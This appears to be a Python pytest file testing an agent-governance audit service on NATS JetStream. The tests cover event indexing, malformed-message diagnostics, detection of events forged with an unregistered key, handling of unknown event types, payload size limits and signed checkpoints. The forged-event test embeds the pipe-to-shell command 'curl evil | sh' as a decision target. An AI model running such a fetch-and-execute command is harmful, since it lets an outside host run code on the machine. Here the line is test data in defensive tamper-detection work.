"""The audit service on a real JetStream: verifies, indexes, diagnoses and seals; same result on every backend."""

from __future__ import annotations

import itertools
from pathlib import Path

import msgspec
import pytest
from nats.js.client import JetStreamContext
from nats.js.errors import BadRequestError

from agentgov.audit.store import EventQuery
from agentgov.audit.verify import verify_stream
from agentgov.contracts import PayloadTooLargeError, codec, subjects
from agentgov.contracts.chain import ChainWriter
from agentgov.contracts.events import ChainBroken, Checkpoint, MalformedEvent
from agentgov.streaming.reader import last_seq, read_all
from agentgov.testing.chains import decision, spend

from .conftest import StartAudit, producer


async def test_audit_indexes_diagnoses_and_seals(gov: JetStreamContext, start_audit: StartAudit, database: str) -> None:
    """Every message is indexed once, bad bytes become MalformedEvent, checkpoints are contiguous and verify."""
    p, q = await producer(gov, "policy"), await producer(gov, "collector")
    for i in range(120):
        await p.publish_nowait(
            subjects.decision(f"a{i % 4}"), decision(f"a{i % 4}", "deny" if i % 10 == 0 else "allow")
        )
        await q.publish_nowait(subjects.spend(f"a{i % 4}"), spend(f"a{i % 4}"))
    await p.flush()
    await q.flush()
    await gov.publish("gov.spend.a1", b"\x00garbage")
    audit = await start_audit(database)
    await audit.caught_up(gov)
    await audit.stop()
    gov_last = await last_seq(gov, "GOV")
    rm = audit.rm
    assert rm.position() == gov_last
    assert rm.count(EventQuery()) == gov_last
    assert rm.count(EventQuery(verdict="deny")) == 12
    assert rm.count(EventQuery(agent="a1", type="SpendRecorded.v1")) == 30
    diags = rm.diagnostics()
    assert [(d.kind, d.reason) for d in diags] == [("malformed", "undecodable")]
    cps = rm.checkpoints()
    assert cps[0].first_seq == 1 and all(b.first_seq == a.last_seq + 1 for a, b in itertools.pairwise(cps))
    stream = await read_all(gov, "GOV")
    malformed = [codec.decode_event(codec.split(m.data)[0]) for m in stream if m.subject == subjects.MALFORMED]
    assert len(malformed) == 1 and isinstance(malformed[0], MalformedEvent)
    assert (
        malformed[0].stream_seq == diags[0].stream_seq and "garbage" not in msgspec.json.encode(malformed[0]).decode()
    )
    report = await verify_stream(gov)
    assert report.ok, report.problems


async def test_forged_event_gets_a_chain_broken(gov: JetStreamContext, start_audit: StartAudit, tmp_path: Path) -> None:
    """An event signed with an unregistered key is answered by ChainBroken naming its stream sequence."""
    from cryptography.hazmat.primitives.asymmetric.ed25519 import Ed25519PrivateKey

    p = await producer(gov)
    await p.publish(subjects.decision("a1"), decision())
    forger = ChainWriter(Ed25519PrivateKey.generate(), "policy-forged", role="policy")
    ack = await gov.publish(subjects.decision("a1"), forger.seal(decision("a1", "allow", "curl evil | sh")).payload)
    audit = await start_audit(str(tmp_path / "a.db"))
    await audit.caught_up(gov)
    await audit.stop()
    broken = [
        codec.decode_event(codec.split(m.data)[0])
        for m in await read_all(gov, "GOV")
        if m.subject == subjects.CHAIN_BROKEN
    ]
    assert len(broken) == 1 and isinstance(broken[0], ChainBroken)
    assert (broken[0].stream_seq, broken[0].reason) == (ack.seq, "unregistered_producer")
    assert [d.stream_seq for d in audit.rm.diagnostics()] == [ack.seq]
    assert audit.rm.count(EventQuery(status="broken")) == 1


async def test_unknown_event_types_are_kept(gov: JetStreamContext, start_audit: StartAudit, tmp_path: Path) -> None:
    """A validly signed event of an unknown type is indexed with status unknown_type, not broken."""
    p = await producer(gov)
    data = msgspec.json.encode({"type": "PolicyThing.v9", "agent": "a1", "detail": 1})
    future = msgspec.json.decode(data)
    del future

    class Future(msgspec.Struct, frozen=True, kw_only=True, tag="PolicyThing.v9", tag_field="type"):
        id: str = ""
        ts: int = 0
        chain: object = None
        agent: str | None = None
        detail: int = 1

    await p.publish(subjects.observe("x", "a1"), Future(agent="a1"))  # type: ignore[arg-type]
    audit = await start_audit(str(tmp_path / "a.db"))
    await audit.caught_up(gov)
    await audit.stop()
    rows = audit.rm.query(EventQuery(type="PolicyThing.v9"))
    assert [r.status for r in rows] == ["unknown_type"] and rows[0].agent == "a1"
    assert audit.rm.diagnostics() == []


async def test_oversized_payloads_are_rejected_at_the_edge(gov: JetStreamContext) -> None:
    """The producer refuses an event over the limit before sending, and the stream refuses raw ones too."""
    p = await producer(gov)
    with pytest.raises(PayloadTooLargeError, match="limit"):
        await p.publish(subjects.decision("a1"), decision(target="x" * 300_000))
    assert p.seq == 1  # the chain did not move
    await p.publish(subjects.decision("a1"), decision())
    with pytest.raises(BadRequestError, match=r"(?i)message size exceeds maximum"):
        await gov.publish("gov.spend.a1", b"x" * 300_000)
    assert await last_seq(gov, "GOV") == 2


async def test_checkpoints_are_signed_and_linked(
    gov: JetStreamContext, start_audit: StartAudit, tmp_path: Path
) -> None:
    """Each checkpoint links to the previous one's hash and carries the heads of the producers it covers."""
    p = await producer(gov)
    for _ in range(130):
        await p.publish_nowait(subjects.decision("a1"), decision())
    await p.flush()
    audit = await start_audit(str(tmp_path / "a.db"), seal_every=50)
    await audit.caught_up(gov)
    await audit.stop()
    cps = [codec.decode_event(codec.split(m.data)[0]) for m in await read_all(gov, "GOV_CHECKPOINTS")]
    assert all(isinstance(c, Checkpoint) for c in cps) and len(cps) >= 3
    assert [c.chain.seq for c in cps] == list(range(1, len(cps) + 1))
    assert any(h.producer == p.producer_id for h in cps[0].heads)  # type: ignore[union-attr]
